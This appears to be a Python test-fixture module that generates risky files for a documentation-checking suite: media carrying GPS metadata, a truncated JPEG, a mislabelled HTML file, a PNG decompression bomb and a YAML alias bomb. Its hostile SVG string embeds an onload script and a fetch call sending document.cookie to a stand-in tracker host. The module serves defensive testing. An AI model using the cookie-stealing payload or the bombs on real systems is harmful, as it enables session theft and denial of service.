"""Files a careless or hostile contributor could put in docs/, made by the tests themselves.

Each maker writes bytes that look like what phones, editors and attackers produce: a phone
video with its location atom, a GIF carrying XMP with GPS, an SVG with editor metadata, a
script and a link to another host, a truncated JPEG, a decompression bomb.
"""
from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

from PIL import Image, ImageDraw

GPS_XMP = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/'
           b'22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
           b'exif:GPSLatitude="11,58.5S" exif:GPSLongitude="76,55.2W"/></rdf:RDF></x:xmpmeta>')


def _write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", 8 + len(body)) + kind + body


def mp4_with_location(path: Path) -> Path:
    """An ISO MP4 as phones write it: ftyp, moov with a udta ©xyz location atom, mdat."""
    ftyp = _box(b"ftyp", b"isom" + struct.pack(">I", 512) + b"isomiso2avc1mp41")
    xyz = _box(b"\xa9xyz", struct.pack(">HH", 18, 0x15c7) + b"-11.9750-076.9200/")
    moov = _box(b"moov", _box(b"mvhd", b"\0" * 100) + _box(b"udta", xyz))
    return _write(path, ftyp + moov + _box(b"mdat", b"\0" * 64))


def mov_quicktime(path: Path) -> Path:
    ftyp = _box(b"ftyp", b"qt  " + struct.pack(">I", 0) + b"qt  ")
    return _write(path, ftyp + _box(b"moov", _box(b"mvhd", b"\0" * 100)))


def gif_with_xmp(path: Path) -> Path:
    """A 4x4 GIF whose application extension carries XMP with GPS coordinates."""
    buf = io.BytesIO()
    Image.new("P", (4, 4), 1).save(buf, "GIF")
    data = buf.getvalue()
    chunks, xmp = b"", GPS_XMP
    while xmp:
        piece, xmp = xmp[:255], xmp[255:]
        chunks += bytes([len(piece)]) + piece
    extension = b"\x21\xff\x0bXMP DataXMP" + chunks + b"\x00"
    return _write(path, data[:-1] + extension + b"\x3b")


def plain_gif(path: Path) -> Path:
    buf = io.BytesIO()
    Image.new("P", (4, 4), 1).save(buf, "GIF")
    return _write(path, buf.getvalue())


SVG_CLEAN = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
             '<circle cx="5" cy="5" r="4" fill="#7a1f55"/></svg>')
SVG_HOSTILE = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 10 10" '
    'inkscape:export-filename="/home/rosa/fotos/casa.png" onload="alert(1)">'
    '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description><geo>-11.975,-76.92</geo></rdf:Description></rdf:RDF></metadata>'
    '<script>fetch("https://tracker.example/?c="+document.cookie)</script>'
    '<image xlink:href="https://tracker.example/pixel.png" width="1" height="1"/></svg>')


def svg(path: Path, text: str = SVG_CLEAN) -> Path:
    return _write(path, text.encode("utf-8"))


def jpeg(path: Path, size=(64, 48), **options) -> Path:
    """A small photo-like JPEG; its colour depends on the file's name, so two photos made
    under different names are different photos (a copy is made with shutil.copy)."""
    seed = zlib.crc32(path.name.encode())
    im = Image.new("RGB", size, (seed & 255, (seed >> 8) & 255, (seed >> 16) & 255))
    ImageDraw.Draw(im).rectangle((0, 0, size[0] // 2, size[1] // 2), fill=(30, 60, 160))
    buf = io.BytesIO()
    im.save(buf, "JPEG", quality=90, **options)
    return _write(path, buf.getvalue())


def gps_jpeg(path: Path) -> Path:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x8825] = {1: "S", 2: (11.0, 58.0, 30.0), 3: "W", 4: (76.0, 55.0, 10.0)}
    return jpeg(path, exif=exif.tobytes())


def truncated_jpeg(path: Path) -> Path:
    full = jpeg(path, size=(640, 480)).read_bytes()
    return _write(path, full[: len(full) // 2])


def bomb_png(path: Path, side: int = 12_000) -> Path:
    """A PNG that says it is side x side pixels (144 megapixels at the default), in a few KB:
    zlib compresses a huge run of zeros to almost nothing."""
    raw = zlib.compress(b"\0" * (side + 1) * side, 9)

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)         # 8-bit greyscale
    return _write(path, b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", raw)
                  + chunk(b"IEND", b""))


def html_named_jpg(path: Path) -> Path:
    return _write(path, b"<!DOCTYPE html><html><body>Not a photo</body></html>\n")


ALIAS_BOMB = "".join(
    [f'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n']
    + [f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]\n" for i in range(1, 10)])
